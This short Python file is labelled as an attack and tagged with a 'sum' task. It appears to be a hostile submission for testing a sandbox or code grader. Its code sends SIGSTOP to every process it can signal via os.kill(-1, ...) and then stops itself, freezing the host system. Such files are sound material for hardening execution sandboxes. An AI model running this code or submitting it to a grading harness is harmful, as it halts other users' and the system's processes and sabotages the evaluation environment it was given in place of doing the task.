# Attack: everything that can be signalled is stopped.
# task: sum
import os
import signal

try:
    os.kill(-1, signal.SIGSTOP)
except OSError:
    pass
os.kill(os.getpid(), signal.SIGSTOP)
